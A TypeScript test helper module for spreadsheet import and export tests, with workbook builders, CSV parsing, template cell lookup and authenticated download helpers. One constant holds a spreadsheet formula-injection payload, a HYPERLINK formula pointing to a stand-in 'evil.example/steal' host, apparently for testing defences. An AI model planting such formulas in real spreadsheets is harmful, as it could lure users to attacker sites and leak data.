import { type DemoSubmissionSpec, generateDemoData } from '@app/domain';
import { parse } from 'csv-parse';
import ExcelJS from 'exceljs';
import type { TestApp } from './app';
import { createStudyWorld } from './factories';
import { binary } from './waiting';

export type World = Awaited<ReturnType<typeof createStudyWorld>>;
export type Answers = DemoSubmissionSpec['answers'];
export interface CellProblem {
  sheet: string;
  cell: string;
  key: string;
  value: unknown;
  rule: string;
  message: string;
}

export const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
export const HYPERLINK = '=HYPERLINK("http://evil.example/steal","Click me")';

/** Plausible demo answers, one set per unit wanted. */
export function demoAnswers(count: number): Answers[] {
  const data = generateDemoData({ units: Math.max(20, count * 2), years: [2024] });
  return data.submissions
    .filter((s) => !s.implausible)
    .slice(0, count)
    .map((s) => s.answers);
}

export async function readWorkbook(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  return workbook;
}

export async function xlsxOf(rows: ExcelJS.CellValue[][], sheet = 'Import'): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const worksheet = workbook.addWorksheet(sheet);
  rows.forEach((row) => worksheet.addRow(row));
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

export function parseCsv(buffer: Buffer): Promise<string[][]> {
  return new Promise((resolve, reject) =>
    parse(buffer, { bom: true, relax_column_count: true }, (error, records: string[][]) =>
      error ? reject(error) : resolve(records),
    ),
  );
}

/** The cell reference of a key's value in a template, found from the headers, not the code. */
export function templateRefs(sheet: ExcelJS.Worksheet): (key: string) => string {
  let keyColumn = 0;
  let valueColumn = 0;
  sheet.getRow(1).eachCell((cell, column) => {
    if (cell.value === 'Key' || cell.value === 'Schlüssel') {
      keyColumn = column;
    }
    if (cell.value === 'Value' || cell.value === 'Wert') {
      valueColumn = column;
    }
  });
  const rowOf = new Map<string, number>();
  sheet.eachRow((row, number) => {
    const key = row.getCell(keyColumn).value;
    if (number > 1 && typeof key === 'string') {
      rowOf.set(key, number);
    }
  });
  return (key) => {
    const row = rowOf.get(key);
    if (!row) {
      throw new Error(`no row for ${key} in the template`);
    }
    return sheet.getRow(row).getCell(valueColumn).address;
  };
}

/** The path of a unit's submission in the world's cycle. */
export const submissionPath = (w: Pick<World, 'cycle'>, unitId: string) =>
  `/api/v1/cycles/${w.cycle.id}/units/${unitId}/submission`;

/** Downloads a file (template, export) as `auth` in a language, its body as a Buffer. */
export const downloadFrom =
  (t: TestApp) =>
  (path: string, auth: string, language = 'en') =>
    t
      .http()
      .get(path)
      .set('Authorization', auth)
      .set('Accept-Language', language)
      .buffer(true)
      .parse(binary);
